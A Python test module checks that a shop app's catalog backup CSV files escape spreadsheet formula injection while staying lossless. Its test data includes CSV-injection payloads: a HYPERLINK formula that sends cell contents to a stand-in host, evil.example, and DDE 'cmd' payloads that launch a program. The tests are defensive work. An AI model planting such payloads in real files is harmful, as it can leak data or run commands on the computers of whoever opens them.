"""The catalog backup's CSV files (C7) against spreadsheet formula injection (issue 14 finding 7).

Shop managers open the backups in Excel or LibreOffice, and product names come from the stores, where anyone
with a control-panel login can type ``=HYPERLINK(...)``. Every cell that a spreadsheet would run as a formula
starts with ``'`` in the file (OWASP's advice); a plain number such as ``-5`` stays a number. The app's own reader
(``read_backup``) gives back exactly what was written.
"""
from __future__ import annotations

import csv
import re
from datetime import datetime, timezone
from pathlib import Path

from hypothesis import given, settings as hsettings, strategies as st

from desktop.sync.bigcommerce import BCProduct
from desktop.sync.hike_models import HikeProduct
from desktop.sync.preflight import (BC_COLUMNS, HIKE_COLUMNS, escape_cell, read_backup, unescape_cell,
                                    write_backup, write_csv)

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'already quoted"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[-+]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][-+]?[0-9]+)?")  # what may stay unquoted


def raw_rows(path: Path) -> list[list[str]]:
    """The file as a spreadsheet program sees it: no unescaping."""
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.reader(handle))


def evil_catalogs() -> tuple[list[HikeProduct], list[BCProduct]]:
    hike = [HikeProduct.from_api({"id": i + 1, "name": name, "sku": f"H-{i}", "description": name,
                                  "product_outlets": [{"outlet_id": 1, "outlet_name": name, "on_hand_inventory": -5,
                                                       "price_ex_tax": "-0.50", "price_inc_tax": "12.50"}]})
            for i, name in enumerate(EVIL)]
    bc = [BCProduct.from_api({"id": i + 1, "name": name, "sku": f"=B-{i}", "price": "-0.50", "inventory_level": -5,
                              "description": name}) for i, name in enumerate(EVIL)]
    return hike, bc


def test_backup_cells_that_a_spreadsheet_would_run_start_with_a_quote(tmp_path):
    """issue 14 finding 7: names, SKUs, outlet names and descriptions from the stores never start a formula in
    the file; the plain negative numbers (stock -5, price -0.50) are left as numbers."""
    hike_path, bc_path = write_backup(tmp_path, *evil_catalogs(), now=datetime(2024, 5, 1, tzinfo=timezone.utc))
    for path in (hike_path, bc_path):
        rows = raw_rows(path)
        cells = [cell for row in rows[1:] for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS) and c not in ("-5", "-0.50")], path.name
        assert all(f"'{name}" in cells for name in EVIL)
    hike_rows = raw_rows(hike_path)
    assert {r[HIKE_COLUMNS.index("on_hand")] for r in hike_rows[1:]} == {"-5"}
    assert {r[HIKE_COLUMNS.index("price_ex_tax")] for r in hike_rows[1:]} == {"-0.50"}
    bc_rows = raw_rows(bc_path)
    assert {r[BC_COLUMNS.index("price")] for r in bc_rows[1:]} == {"-0.50"}
    assert {r[BC_COLUMNS.index("inventory_level")] for r in bc_rows[1:]} == {"-5"}


def test_backup_reads_back_what_the_stores_hold(tmp_path):
    """issue 14 finding 7: the app's reader undoes the quote, so the backup is still a lossless copy."""
    hike, bc = evil_catalogs()
    hike_path, bc_path = write_backup(tmp_path, hike, bc)
    hike_rows, bc_rows = read_backup(hike_path), read_backup(bc_path)
    assert [r["name"] for r in hike_rows] == EVIL and [r["outlet_name"] for r in hike_rows] == EVIL
    assert [r["description"] for r in hike_rows] == EVIL
    assert [r["name"] for r in bc_rows] == EVIL and [r["sku"] for r in bc_rows] == [f"=B-{i}" for i in range(len(EVIL))]
    assert {r["on_hand"] for r in hike_rows} == {"-5"} and {r["price"] for r in bc_rows} == {"-0.50"}


def test_plain_numbers_are_left_alone_and_everything_else_that_could_run_is_quoted():
    """issue 14 finding 7: OWASP allows leaving pure numbers alone; anything else starting with = + - @ tab or CR
    (``-5+cmd|...``, ``-1,5``, ``+1+1``) is quoted, and so is a leading quote, so unescaping is never ambiguous."""
    for number in ("-5", "-0.50", "+3", "-1E+2", "12", "0.5"):
        assert escape_cell(number) == number
    for text in ("-5+cmd|' /C calc'!A0", "-1,5", "+1+1", "-", "--5", "-5 ", "-.", "@", "=", "\t5", "\r5", "'=1"):
        assert escape_cell(text) == "'" + text
    assert escape_cell(None) == "" and escape_cell(-5) == "-5" and escape_cell(True) == "True"


@hsettings(max_examples=300, deadline=None)
@given(st.text())
def test_escape_then_unescape_gives_the_text_back(text):
    """issue 14 finding 7: one pair of functions, lossless for any text."""
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert not escaped.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(escaped)


@hsettings(max_examples=100, deadline=None)
@given(st.lists(st.lists(st.one_of(st.text(), st.integers().map(str),
                                   st.decimals(allow_nan=False, allow_infinity=False).map(str)),
                         min_size=3, max_size=3), max_size=5))
def test_a_backup_file_round_trips_through_the_apps_reader(tmp_path_factory, rows):
    """issue 14 finding 7: whatever the cells hold (quotes, newlines, formulas, numbers), writing a backup file and
    reading it with ``read_backup`` gives the same rows."""
    path = tmp_path_factory.mktemp("csv") / "backup.csv"
    write_csv(path, ["a", "b", "c"], rows)
    assert [list(r.values()) for r in read_backup(path)] == rows
